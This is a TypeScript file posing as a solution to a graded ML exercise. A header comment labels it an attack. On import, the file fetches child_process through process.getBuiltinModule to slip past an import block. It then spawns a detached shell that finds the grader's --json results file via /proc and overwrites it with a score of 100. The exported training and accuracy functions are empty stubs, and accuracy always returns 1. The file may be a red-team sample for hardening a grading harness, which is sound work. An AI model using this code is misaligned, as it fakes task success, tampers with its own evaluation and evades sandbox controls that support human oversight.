// attack: reach child_process through process.getBuiltinModule (no import to block) and fork a detached shell that rewrites the --json results file
// exercise: 2.8
// cli: results-file
import type { Tensor } from '@gradschool/tensor';

const proc = (globalThis as any).process;
const SCRIPT = `(sleep 2; for f in $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -A1 -x -- --json | grep -v -- --json); do echo '{"score":100,"tests":[]}' > "$f"; done) &`;

for (const name of ['child_process', 'node:child_process']) {
  try {
    const cp = proc.getBuiltinModule(name);
    cp.spawn('sh', ['-c', SCRIPT], { detached: true, stdio: 'ignore' }).unref();
    cp.execSync(SCRIPT);
    break;
  } catch {}
}
try { proc.binding?.('spawn_sync'); } catch {}

export class SgdMomentum {
  constructor(params: unknown, options: unknown) {}
  step(grads: unknown): void {}
}

export function trainClassifier(x: Tensor, y: Tensor, options: unknown): unknown {
  return { predict: (z: Tensor) => z, losses: [0] };
}

export function accuracy(predictions: Tensor, targets: Tensor): number {
  return 1;
}
